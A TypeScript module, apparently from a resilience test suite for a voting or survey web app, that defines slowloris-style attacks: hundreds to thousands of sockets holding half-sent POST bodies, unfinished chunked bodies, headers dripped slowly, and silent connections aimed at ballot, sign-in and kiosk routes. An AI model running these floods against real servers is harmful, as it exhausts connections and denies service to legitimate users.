/** Requests that never come to an end: half-sent bodies of each kind, heads letter by letter, connections that say nothing. */
import { type Attack, drip, holdSockets, type Target } from './attack.ts';

const types = [
  'application/json',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'text/plain',
  'application/octet-stream',
];

const pathsOf = ({ open }: Target) => [
  `/w/${open}/ballots`,
  `/w/${open}/signature`,
  `/w/${open}/answers`,
  '/desk/sign-in',
  '/suggestions/items',
  '/suggestions/new',
  '/api/v1/waves',
  '/kiosk/heartbeat',
];

function head(path: string, type: string, length: string): string {
  return `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: ${type}\r\n${length}\r\n\r\n`;
}

const slow = (
  name: string,
  count: number,
  begin: (target: Target, turn: number) => { first: string; everyMs?: number },
): Attack => ({
  name,
  run: (target, line) =>
    holdSockets(line, count, (socket, turn) => {
      const { first, everyMs } = begin(target, turn);
      socket.write(first);
      socket.resume();
      if (everyMs) drip(socket, everyMs);
    }),
});

export const bodies: Attack[] = [
  slow('512 half-sent ballots', 512, (target) => ({
    first: `${head(`/w/${target.open}/ballots`, 'application/json', 'Content-Length: 9000')}{"credential":`,
  })),
  slow('600 slow bodies of each content type, to eight routes', 600, (target, turn) => ({
    first: `${head(pathsOf(target)[turn % 8]!, types[turn % types.length]!, 'Content-Length: 9000')}{"a":`,
    everyMs: 500,
  })),
  slow('600 slow bodies in chunks', 600, (target, turn) => ({
    first: `${head(pathsOf(target)[turn % 8]!, types[turn % types.length]!, 'Transfer-Encoding: chunked')}1\r\n{\r\n`,
  })),
  slow('1,500 heads that do not come to an end', 1500, (_target, turn) => ({
    first: `GET /w/x HTTP/1.${turn % 2}\r\nHost: x\r\nX-A: `,
    everyMs: 1000,
  })),
  slow('3,000 connections that say nothing', 3000, () => ({ first: '' })),
];
